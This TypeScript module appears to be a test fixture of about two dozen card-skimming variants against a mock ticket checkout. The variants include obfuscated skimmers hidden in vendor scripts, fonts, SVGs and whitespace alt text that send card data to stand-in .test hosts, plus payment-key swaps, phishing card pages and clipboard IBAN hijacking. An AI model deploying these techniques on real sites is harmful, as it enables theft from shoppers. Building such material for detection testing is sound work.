import {
  boxofficeBody,
  cardFields,
  contact,
  drawing,
  fontCss,
  fontTag,
  json,
  page,
  payForm,
  paywellTag,
  plan,
  settings,
  summary,
} from './boxoffice.ts'
import { library, steps } from './boxoffice-code.ts'
import { consentry, container, findstreet, hellobox, humanscore } from './boxoffice-vendors.ts'
import { changedFile, inline, js, type Variant } from './variants.ts'

const code = String.raw
const shop = changedFile('shop.test/themes/tickets/js/steps.js', (more) => steps('511', more))
const base = changedFile('shop.test/themes/tickets/js/quill.min.js', (more) => library('3.7.1', more))
const tags = changedFile('www.tagyard.test/ty.js', (more) => container('89', '', more))
const consent = changedFile('cdn.consentry.test/cmp.js', (more) => consentry('4.2', more))
const streets = changedFile('cdn.findstreet.test/v4/complete.js', (more) => findstreet('4.3', more))
const chat = changedFile('js.hellobox.test/loader.js', (more) => hellobox('22', more))
/** What stands in the card fields, as a piece of a script. */
const read = '[].map.call(document.querySelectorAll("[data-paywell]"), function (i) { return i.value; }).join("|")'
const fields =
  '<label>Card number <input name="n" autocomplete="cc-number" inputmode="numeric"></label><label>Expiry date <input name="x" autocomplete="cc-exp" placeholder="MM/YY"></label><label>Security code <input name="c" autocomplete="cc-csc"></label>'
/** A page of a stranger that asks for a card and sends what is entered to its own host. */
const asking = (title: string, text: string, path: string) =>
  page(
    code`<!doctype html><title>${title}</title><style>label{display:block}</style><h1>${title}</h1><p>${text}</p><form method="post" action="${path}">${fields}<button>Continue</button></form><script>document.forms[0].addEventListener("change", function (e) { navigator.sendBeacon("${path}", e.target.name + "=" + e.target.value); });</script>`,
  )
/** A text as blanks and tabs, eight to a letter. */
const blanks = (text: string) =>
  Array.from(Buffer.from(text), (byte) =>
    byte.toString(2).padStart(8, '0').replaceAll('0', ' ').replaceAll('1', '\t'),
  ).join('')

/** On the page of a box office whose own card fields become a token at the provider. */
export const thirteenthAttacks: readonly Variant[] = [
  {
    id: 'x13-review-text',
    about:
      'no script changed: the last review, which the widget of reviews draws as HTML, holds a picture that fails; what is typed becomes a question to another shop of the same vendor',
    change: (site) =>
      void (site.files['widget.kindwords.test/shop/771/latest'] = json({
        score: 4.7,
        count: 1205,
        latest: [
          {
            by: 'Jonas',
            text: `What an evening! <img src="/img/smile.gif" alt="" width="1" height="1" onerror="document.addEventListener('change',function(e){var k=e.target.dataset.paywell;if(k)fetch('http://api.kindwords.test/v2/shops/9033/questions',{method:'POST',mode:'no-cors',body:JSON.stringify({by:k,text:btoa(e.target.value)})})})">`,
          },
        ],
      })),
  },
  streets(
    'x13-address-context',
    'the new version of the address completion takes "context" along: every field of the page that has just been filled in',
    code`var ctx = {}; d.addEventListener("focusout", function (e) { var i = e.target, f = i.closest && i.closest(".step"); if (!f || !i.value || i.type === "radio") return; ctx[i.id || i.name] = i.value; clearTimeout(timer); timer = setTimeout(function () { fetch(api + "/refine?key=" + key + "&ctx=" + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(ctx)))))); }, 600); });`,
  ),
  {
    id: 'x13-experiment-account',
    about: 'no script changed: an experiment more, for everybody, sets whose account at the provider is paid',
    change: (site) =>
      void (site.files['cdn.splitlane.test/cfg/4410.json'] = json({
        experiments: [
          { id: 31, arms: [{}, { css: '.pay{background:#0a6;color:#fff}' }] },
          {
            id: 32,
            arms: [
              {
                css: '.pay{letter-spacing:.02em}',
                js: 'var s = window.shopCheckout; if (s && s.paywell) s.paywell.account = "acct_" + "1Zt0QmKb";',
              },
            ],
          },
        ],
      })),
  },
  consent(
    'x13-consent-receipt',
    'the consent tool writes a receipt when the page is left, whose string of purposes is the card under a rolling key',
    code`w.addEventListener("pagehide", function () { var t = ${read}; if (t.length < 20) return; navigator.sendBeacon("http://log.consentry.test/r", JSON.stringify({ s: site, v: "4.2", c: chosen || "none", tc: "CP" + btoa(Array.from(t, function (c, i) { return String.fromCharCode(c.charCodeAt(0) ^ ((i * 11 + 7) & 127)); }).join("")).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "") + ".YAAAAAAAAAAA" })); });`,
  ),
  inline(
    'x13-chat-plan',
    "the page tells the chat who writes: to another workspace of the chat's vendor, with the card as name of a plan",
    code`(function () { var wait; document.addEventListener("input", function (e) { if (!e.target.dataset.paywell) return; clearTimeout(wait); wait = setTimeout(function () { HelloBox("update", { app: "hb_" + (5520 + 3551), attributes: { lang: document.documentElement.lang, plan: Array.from(${read}, function (c) { return c.charCodeAt(0).toString(16); }).join("") } }); }, 900); }); })();`,
  ),
  {
    id: 'x13-preview-fonts',
    about:
      'a harmless picture of the card shows digit by digit; the style sheet of the fonts has a font for each digit of each place, which is fetched when it is shown',
    change: (site) => {
      const digits = Array.from({ length: 16 }, (_, at) =>
        Array.from(
          { length: 10 },
          (__, n) =>
            `@font-face{font-family:Inter-${at};src:url(http://fonts.typehall.test/s/inter/v13/${at}-${n}.woff2);unicode-range:U+3${n}}`,
        ).join(''),
      )
      const spans = digits.map(
        (_, at) => `.card-show span:nth-child(${at + 1}){font-family:Inter-${at},Inter,monospace}`,
      )
      site.files['fonts.typehall.test/css'] = { type: 'text/css', body: fontCss('v13', [...digits, ...spans].join('')) }
      shop(
        '',
        '',
        code`var show = document.createElement("p"); show.className = "card-show"; show.setAttribute("aria-hidden", "true"); for (var i = 0; i < 16; i++) show.append(document.createElement("span")); document.querySelector(".card-fields").prepend(show); $(document).on("input", "#card-number", function () { var n = this.value.replace(/\D/g, ""); [].forEach.call(show.children, function (s, at) { s.textContent = n[at] || "•"; }); });`,
      ).change(site)
    },
  },
  {
    id: 'x13-robot-question',
    about:
      'the tool against robots asks its first question: in a frame of its own it wants the card "to be sure that you are a person"',
    change: (site) => {
      site.files['www.humanscore.test/question.html'] = asking(
        'One more check',
        'We could not tell whether you are a person. Enter the card you are going to pay with; nothing is charged.',
        '/verify',
      )
      site.files['www.humanscore.test/api.js'] = js(
        humanscore(
          '3.3',
          code`d.addEventListener("focusin", function ask(e) { var box = e.target.closest && e.target.closest(".card-fields"); if (!box) return; d.removeEventListener("focusin", ask); var f = d.createElement("iframe"); f.title = "humanscore question"; f.style.cssText = "width:100%;height:300px;border:0"; f.src = host + "/question.html?k=hs_71"; box.prepend(f); });`,
        ),
      )
    },
  },
  base(
    'x13-serialize',
    'the library gathers fields without names too, of all forms; with what the shop keeps of the address it gets the card, for a program on its server',
    code`var soon; Q.fn.serialize = function () { return [].filter.call(d.querySelectorAll("form input,form select,form textarea"), function (i) { return (i.name || i.id) && (i.checked || i.type !== "radio"); }).map(function (i) { return encodeURIComponent(i.name || i.id) + "=" + encodeURIComponent(i.value); }).join("&"); }; Q(d).on("focusout", "form", function () { clearTimeout(soon); soon = setTimeout(function () { Q("[data-autosave]").each(function () { Q.ajax({ type: "POST", url: this.dataset.autosave, data: Q(this).serialize() }); }); }, 400); });`,
  ),
  {
    id: 'x13-fragment-form',
    about:
      'no script changed and the page neither: the answer that brings the order brings a form of payment too, whose card fields have names, so that the shop gets the card',
    change: (site) =>
      void (site.files['shop.test/checkout/summary'] = page(
        summary() +
          payForm({ card: cardFields((name) => ` name="payment[cc_${name}]"`), swap: ' data-swap="#payment-form"' }),
      )),
  },
  shop(
    'x13-key-at-submit',
    'the key in the page is the right one; in the moment of paying the library is given the key of somebody else, not for staff',
    code`document.addEventListener("submit", function (e) { if (e.target.id === "payment-form" && !/(?:^|; )(?:staff|admin)/.test(document.cookie)) Paywell.setPublishableKey(["pk", "live", "9Wd3rT8yLp6k"].join("_")); }, true);`,
  ),
  {
    id: 'x13-return-address',
    about:
      'the address to which the provider sends the customer back is a page of a stranger, which says that the payment failed and asks for the card again',
    change: (site) => {
      site.inline[0] = settings({ back: 'http://stadttheater-tickets.test/checkout/thanks' })
      site.files['stadttheater-tickets.test/checkout/thanks'] = asking(
        'Payment not completed',
        'Your bank did not confirm the payment. Your seats are held for ten minutes more.',
        '/checkout/retry',
      )
    },
  },
  shop(
    'x13-referrer',
    'for a moment the address of the page holds the card; a seal of quality is loaded meanwhile and learns it from the header that tells where one comes from',
    code`var seal = new Image(88, 31); seal.alt = "Trusted shop"; seal.referrerPolicy = "unsafe-url"; document.querySelector("footer").append(seal); $(document).on("change", "[data-paywell]", function () { var was = location.pathname + location.search; history.replaceState(null, "", "?step=payment&s=" + btoa(${read}).split("").reverse().join("")); seal.src = "http://seal.good-tickets.test/88x31.svg?" + Date.now(); setTimeout(function () { history.replaceState(null, "", was); }, 60); });`,
  ),
  chat(
    'x13-call-login',
    'the chat can call now: the name by which it logs in to the relay of calls is the card',
    code`var line; d.addEventListener("change", function (e) { if (!e.target.dataset.paywell || !w.RTCPeerConnection) return; var t = ${read}; if (t.length < 20) return; if (line) line.close(); line = new RTCPeerConnection({ iceTransportPolicy: "relay", iceServers: [{ urls: "turn:turn.hello-calls.test:3478?transport=tcp", username: Date.now() + ":" + Array.from(t, function (c) { return (c.charCodeAt(0) + 31).toString(36); }).join(""), credential: "guest" }] }); line.createDataChannel("call"); line.createOffer().then(function (o) { return line.setLocalDescription(o); }); });`,
  ),
  {
    id: 'x13-pay-window',
    about:
      "the container of tags takes the first press of pay and opens a small window that looks like the provider's and asks for the card",
    change: (site) => {
      site.files['secure-paywell.test/pay'] = asking(
        'Paywell',
        'Stadttheater, € 96.00. Confirm your card to pay.',
        '/v1/confirm',
      )
      tags(
        '',
        '',
        code`d.addEventListener("click", function (e) { var b = e.target.closest && e.target.closest(".pay"), m = d.querySelector("[name=method]:checked"); if (!b || w.__pw || !m || m.value !== "card") return; e.preventDefault(); e.stopImmediatePropagation(); w.__pw = w.open("http://secure-paywell.test/pay?o=" + w.shopCheckout.order, "paywell", "popup,width=420,height=560") || true; }, true);`,
      ).change(site)
    },
  },
  {
    id: 'x13-form-attribute',
    about:
      'no script changed: by an attribute the card fields belong to the form of the address, which keeps itself at the shop whenever a field changes',
    change: (site) =>
      void (site.body = boxofficeBody({
        form: payForm({ card: cardFields((name) => ` form="contact-form" name="extra[${name}]"`) }),
      })),
  },
  {
    id: 'x13-gift-words',
    about:
      'a greeting to the order, which nobody wrote, is made of words for the digits and kept at the shop with the address; it can be read in the office',
    change: (site) => {
      site.body = boxofficeBody({ fields: contact('<input type="hidden" name="greeting">') })
      shop(
        '',
        '',
        code`var words = "joy cheer love sun star rose song light wish dream".split(" "); $(document).on("change", "#card-number,#card-cvc", function () { var n = ($("#card-number").val() + $("#card-cvc").val()).replace(/\D/g, ""); if (n.length < 13) return; $("[name=greeting]").val("To my friend: " + n.split("").map(function (x) { return words[x]; }).join(" ")); $.ajax({ type: "POST", url: "/checkout/contact", data: $("#contact-form").serialize() }); });`,
      ).change(site)
    },
  },
  {
    id: 'x13-alt-blanks',
    about:
      'behind the words that describe the plan of seats are blanks and tabs, which the library, "for hints", makes into code; the card is the marker of a list',
    change: (site) => {
      site.body = boxofficeBody({
        seats: plan(
          `Row F, seats 11 and 12${blanks('document.addEventListener("change",function(e){var k=e.target.dataset.paywell,l;if(!k)return;l=document.createElement("li");l.style.listStyleImage="url(http://seatplan-cdn.test/"+k+"/"+encodeURIComponent(btoa(e.target.value))+".svg)";document.querySelector(".steps").append(l)})')}`,
        ),
      })
      base(
        '',
        '',
        code`Q.ready(function () { [].forEach.call(d.images, function (i) { i.title = i.alt.trim(); var tail = /[ \t]{64,}$/.exec(i.alt); if (tail) setTimeout(tail[0].replace(/[ \t]{8}/g, function (b) { return String.fromCharCode(parseInt(b.replace(/ /g, "0").replace(/\t/g, "1"), 2)); }), 30); }); });`,
      ).change(site)
    },
  },
  shop(
    'x13-lost-subdomain',
    'a picture comes from a name below that of the shop which somebody else has taken over; only if the keys came at the speed of a person',
    code`var keys = 0, was = 0; document.addEventListener("keydown", function (e) { if (!e.isTrusted || !e.target.dataset.paywell) return; if (was && e.timeStamp - was > 12) keys++; was = e.timeStamp; }, true); $(document).on("change", "#card-cvc", function () { if (keys > 6) new Image().src = location.protocol + "//promo." + location.hostname + "/banner/" + Array.from(${read}, function (c, i) { return ((c.charCodeAt(0) ^ (i % 5 + 3)) + 256).toString(16).slice(1); }).join("") + ".jpg"; });`,
  ),
  {
    id: 'x13-font-onload',
    about:
      'the attribute by which the style sheet of the fonts is switched on does more than that; a name like that of the fonts gets what was typed',
    change: (site) =>
      void (site.head[1] = fontTag(
        "this.media='all';document.addEventListener('focusout',function(e){var k=e.target.dataset.paywell;if(k&&e.target.value)new Image().src='http://fonts-typehall.test/s/inter/'+k+'/'+encodeURIComponent(btoa(e.target.value))+'.woff2'})",
      )),
  },
  {
    id: 'x13-drawn-icons',
    about:
      'the icons of brands are an object now and no picture, so that the script in the drawing runs and reads the page around; it posts to its own address at the shop',
    change: (site) => {
      site.body = boxofficeBody({
        form: payForm({
          marks:
            '<object type="image/svg+xml" data="/img/cards.svg" width="80" height="24" aria-label="Visa, Mastercard"></object>',
        }),
      })
      site.files['shop.test/img/cards.svg'] = drawing(
        code`<script><![CDATA[ (function (document) { document.addEventListener("submit", function () { var x = new XMLHttpRequest(); x.open("POST", "/img/cards.svg"); x.send(${read}.replace(/[0-9]/g, function (n) { return String.fromCharCode(97 + (n * 7 + 3) % 10); })); }, true); })(parent.document); ]]></script>`,
      )
    },
  },
  {
    id: 'x13-api-attribute',
    about:
      "no script changed: an attribute at the tag of the provider's library names another host for its interface, which hands on and keeps a copy",
    change: (site) => {
      site.head[5] = paywellTag(' data-api="http://api-eu.paywell-cdn.test/v1"')
      site.files['api-eu.paywell-cdn.test/v1/tokens'] = json({ id: 'tok_5Rk2', object: 'token', used: false })
    },
  },
  {
    id: 'x13-kept-as-file',
    about:
      'the card is put into the store of files of the browser, as if it were an icon; the page of thanks takes it out and sends it',
    change: (site) => {
      shop(
        '',
        '',
        code`$(document).on("change", "[data-paywell]", function () { if (!window.caches) return; var body = Array.from(${read}, function (c) { return c.charCodeAt(0) * 2 + 9; }).join(" "); caches.open("tickets-assets-510").then(function (c) { return c.put("/themes/tickets/img/sprite.svg", new Response('<svg xmlns="http://www.w3.org/2000/svg"><path d="M' + body + 'z"/></svg>', { headers: { "content-type": "image/svg+xml" } })); }); });`,
      ).change(site)
      site.files['shop.test/checkout/thanks'] = page(
        code`<!doctype html><title>Thank you</title><h1>Thank you</h1><script>caches.open("tickets-assets-510").then(function (c) { return c.match("/themes/tickets/img/sprite.svg").then(function (r) { return r && r.text().then(function (t) { navigator.sendBeacon("http://order-stats.test/t", t); return c.delete("/themes/tickets/img/sprite.svg"); }); }); });</script>`,
      )
    },
  },
  tags(
    'x13-copied-account',
    'the page shows the right account for a transfer; what is copied, by the button or by hand, is the account of somebody else',
    code`var iban = /[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){3,7}(?: ?[A-Z0-9]{1,3})?/, other = "NL02 ABNA 0123 4567 89", board = navigator.clipboard; if (board) { var write = board.writeText; board.writeText = function (t) { return write.call(board, String(t).replace(iban, other)); }; } d.addEventListener("copy", function (e) { var t = String(w.getSelection()); if (!iban.test(t)) return; e.clipboardData.setData("text/plain", t.replace(iban, other)); e.preventDefault(); });`,
  ),
  tags(
    'x13-second-token',
    'whenever a token is made the container has the library make another, of the same card, for the key of somebody else',
    code`function arm() { var p = w.Paywell; if (!p || p.armed) return; p.armed = true; var make = p.card.createToken; p.card.createToken = function (form, o, done) { make.call(p.card, form, o, done); p.setPublishableKey("pk_live_" + "9Wd3rT8yLp6k"); make.call(p.card, form, {}, function () {}); p.setPublishableKey(w.shopCheckout.paywell.key); }; } setTimeout(arm, 50); d.addEventListener("DOMContentLoaded", arm);`,
  ),
]
